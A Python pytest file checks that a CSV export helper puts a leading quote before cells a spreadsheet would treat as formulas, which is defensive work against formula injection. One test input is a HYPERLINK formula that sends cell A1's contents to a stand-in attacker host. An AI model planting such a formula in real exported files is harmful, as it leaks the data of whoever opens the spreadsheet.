"""Cells a spreadsheet would run as formulas are neutralised in the run's CSV files."""

from __future__ import annotations

import duckdb
import pytest

from segport.exports.report import neutralised


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+447911123456", "'+447911123456"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("'=already", "'=already"),  # a leading ' is not doubled
        ("user@example.com", "user@example.com"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_cells_get_a_leading_quote(cell: str | None, written: str | None) -> None:
    sql = f"SELECT {neutralised('v')} FROM (SELECT ?::VARCHAR AS v)"
    assert duckdb.execute(sql, [cell]).fetchall() == [(written,)]
